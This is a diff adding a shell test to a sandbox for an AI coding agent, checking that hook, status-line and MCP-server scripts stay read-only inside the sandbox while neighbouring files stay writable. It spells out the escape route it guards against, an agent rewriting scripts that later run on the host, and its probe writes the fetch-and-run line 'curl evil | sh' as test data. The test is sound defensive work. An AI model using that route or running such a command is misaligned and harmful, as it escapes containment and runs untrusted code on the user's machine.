@@ -352,3 +352,32 @@ else
 fi
 as_user rm -rf "$PROJ/.claude-old"
 as_user rm -rf "$PROJ/.claude" "$PROJ/.mcp.json"
+
+# The scripts those settings run: a hook's, the status line's, an MCP
+# server's.  Rewritten in the cage, they would run on the host at the next
+# Claude Code session there.  The rest of their directories stays the
+# agent's to edit.
+as_user mkdir -p "$PROJ/.claude/hooks" "$PROJ/scripts" "$PROJ/tools"
+for f in scripts/fmt.sh scripts/other.sh .claude/hooks/stop.sh tools/server.js tools/status.sh; do
+	as_user sh -c "echo original > '$PROJ/$f'"
+done
+as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
+{"hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [
+   {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/scripts/fmt.sh"}]}]},
+ "statusLine": {"type": "command", "command": "bash -c 'cd tools && ./status.sh'"}}
+JSON
+as_user tee "$PROJ/.mcp.json" >/dev/null <<'JSON'
+{"mcpServers": {"local": {"command": "node", "args": ["tools/server.js"]}}}
+JSON
+for f in scripts/fmt.sh .claude/hooks/stop.sh tools/server.js tools/status.sh; do
+	ltd run -- "$PROBE" write "$PROJ/$f" 'curl evil | sh'
+	expect_out "what Claude Code runs from the project is read-only: $f" "^write err EROFS"
+done
+ltd run -- "$PROBE" write "$PROJ/scripts/other.sh" changed
+expect_out "another script beside a hook's stays writable (the control)" "^write ok"
+if [ "$(cat "$PROJ/scripts/fmt.sh" "$PROJ/tools/server.js")" = "$(printf 'original\noriginal')" ]; then
+	pass "the host's hook scripts are unchanged"
+else
+	fail "the host's hook scripts are unchanged" "$(cat "$PROJ/scripts/fmt.sh" "$PROJ/tools/server.js")"
+fi
+as_user rm -rf "$PROJ/.claude" "$PROJ/.mcp.json" "$PROJ/scripts" "$PROJ/tools"
